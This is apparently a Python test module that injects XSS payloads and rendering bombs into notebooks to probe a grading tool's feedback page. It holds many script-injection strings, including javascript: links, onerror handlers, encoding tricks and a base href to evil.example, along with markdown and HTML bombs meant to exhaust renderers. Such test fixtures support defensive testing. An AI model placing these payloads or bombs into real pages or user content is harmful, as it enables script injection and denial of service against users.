"""Attacks on whoever opens the feedback page, or has to make it."""

import nbformat
from attack import Attack, doing, returning
from nbformat.notebooknode import NotebookNode

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a><a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href='//evil.example/'>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>x</details><body onload=alert(1)>",
    "</pre></div><script>alert(1)</script>",
    "<style>@import 'javascript:alert(1)';</style><link rel=stylesheet href='//evil.example'>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( <javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '[x](x "title\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](vbscript:x) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "$</script><script>alert(1)</script>$ $$\\href{javascript:alert(1)}{x}$$",
    "# <img src=x onerror=alert(1)> {#x onload=alert(1)}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
)


def markdown_cells(notebook: NotebookNode) -> None:
    for text in (*MARKDOWN, *SCRIPTS):
        notebook.cells.append(nbformat.v4.new_markdown_cell(text))
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            cell.attachments = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}}


def attributes(notebook: NotebookNode) -> None:
    """Quotes and brackets wherever a template might put them into an attribute."""
    evil = '"><script>alert(1)</script>'
    notebook.metadata.title = notebook.metadata.authors = evil
    notebook.metadata.language_info = {
        "name": evil,
        "pygments_lexer": evil,
        "codemirror_mode": evil,
    }
    for cell in notebook.cells:
        cell.metadata.tags = [evil, "x onload=alert(1)"]
        cell.metadata.name = evil
        if cell.metadata.get("nbgrader"):
            continue
        cell.id = "x-onload-alert"
    for number, cell in enumerate(notebook.cells):
        if not cell.metadata.get("nbgrader"):
            cell.id = f"x{number}"


def comments(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.source += f"\n# {' '.join(SCRIPTS)}"


def many_cells(code: str, count: int):
    def change(notebook: NotebookNode) -> None:
        notebook.cells += [nbformat.v4.new_code_cell(code) for _ in range(count)]

    return change


def markdown_bomb(notebook: NotebookNode) -> None:
    bombs = [
        "[" * 20_000,
        "*a **b " * 8_000,
        "![x](" * 8_000,
        "`" * 20_001 + " ",
        "<a" * 20_000,
        "> " * 3_000 + "x",
        "- " * 3_000 + "x",
        "$" * 20_001,
        "[a](b" * 8_000,
        "\\(" * 8_000,
        "<!--" * 8_000,
        "|x" * 8_000 + "\n" + "|-" * 8_000,
    ]
    notebook.cells += [nbformat.v4.new_markdown_cell(bomb) for bomb in bombs]


TREE_BOMB = """
from IPython.display import HTML, display
text = "".join(f"<b id=x{number}>" for number in range(1500)) + "<p>x" * 3000
display(HTML(text), HTML("<table>" * 30_000), HTML("<a" * 200_000), HTML("<div>" * 100_000))
"""

ATTACKS = [
    Attack(
        "html_output",
        "shows HTML that runs scripts",
        f"from IPython.display import HTML, display\nSCRIPTS = {SCRIPTS!r}\n",
        doing("display(*map(HTML, SCRIPTS))\nreturn HTML(SCRIPTS[0])"),
        last="display(*map(HTML, SCRIPTS))\nHTML(''.join(SCRIPTS))",
    ),
    Attack(
        "script_output",
        "shows JavaScript, SVG, LaTeX, markdown, widgets",
        f"SCRIPTS = {SCRIPTS!r}\nTEXTS = {MARKDOWN!r}\n",
        last="""
        from IPython.display import SVG, Javascript, Latex, Markdown, Math, display, IFrame
        display(Javascript("alert(1)"), Latex("$\\\\href{javascript:alert(1)}{x}$ " + SCRIPTS[0]),
                Math("</script><script>alert(1)</script>"), IFrame("javascript:alert(1)", 10, 10))
        for text in SCRIPTS + TEXTS:
            display(Markdown(text))
            for kind in ("image/svg+xml", "application/javascript", "text/latex", "text/markdown",
                         "application/vnd.jupyter.widget-view+json", "application/pdf", text):
                display({kind: text, "text/html": text, "text/plain": text}, raw=True,
                        metadata={"text/html": {"isolated": True}, "x": text})
        """,
    ),
    Attack(
        "exception_texts",
        "raises exceptions whose names and messages are scripts",
        f"SCRIPTS = {SCRIPTS!r}\n",
        doing("""
            kind = type(SCRIPTS[0], (ValueError,), {"__module__": SCRIPTS[1]})
            raise kind(" ".join(SCRIPTS))
        """),
        last="""
        kind = type(SCRIPTS[1], (Exception,), {"__module__": SCRIPTS[0]})
        raise kind(*SCRIPTS)
        """,
    ),
    Attack(
        "names",
        "gives its functions names that are scripts",
        f"SCRIPTS = {SCRIPTS!r}\n",
        last="""
        for function in (total, table, doubled, halve):
            function.__name__ = function.__qualname__ = function.__doc__ = SCRIPTS[0]
            function.__module__ = SCRIPTS[1]
        total
        """,
        solutions=returning("type(SCRIPTS[0], (), {})()"),
    ),
    Attack(
        "printed",
        "prints scripts, colours and links for terminals",
        f"SCRIPTS = {SCRIPTS!r}\n",
        doing("print(*SCRIPTS, sep='\\x1b[31m')\nprint(*SCRIPTS, file=sys.stderr)\nreturn 0.0"),
        last="""
        print(*SCRIPTS, sep="\\x1b[1;38;2;300;-1;5m")
        print("\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07")
        print("\\x1b[38;5;<script>m \\x1b[2J \\0 \\x9b31m")
        print("\\x1b[31\\"onmouseover=alert(1)m text \\ud800 \\u202e")
        """,
    ),
    Attack("markdown_cells", "writes markdown that runs scripts", change=markdown_cells),
    Attack("attributes", "writes scripts into metadata that templates use", change=attributes),
    Attack("comments", "writes scripts into its code", change=comments),
    Attack(
        "pictures",
        "shows pictures that are none",
        f"SCRIPTS = {SCRIPTS!r}\n",
        last="""
        import base64
        from IPython.display import display
        for text in SCRIPTS + ('x" onerror="alert(1)', 'iVBORw0KGgo"><script>alert(1)</script>',
                               'iVBORw0KGgo" onload="alert(1)', '/9j/"><script>alert(1)</script>'):
            for kind in ("image/png", "image/jpeg", "image/gif", "image/svg+xml"):
                display({kind: text}, raw=True, metadata={kind: {"width": '1" onload="alert(1)'}})
                display({kind: base64.b64encode(text.encode()).decode()}, raw=True)
        """,
    ),
    Attack("tree_bomb", "shows HTML that takes long to put in order", last=TREE_BOMB),
    Attack("markdown_bomb", "writes markdown that takes long to read", change=markdown_bomb),
    Attack(
        "many_outputs",
        "shows a lot in each of many cells",
        change=many_cells("print('<b>x' * 240_000)", 60),
    ),
    Attack(
        "colour_bomb",
        "prints colours that take long to turn into HTML",
        last=("print('\\x1b[31mx' * 200_000)"),
    ),
]
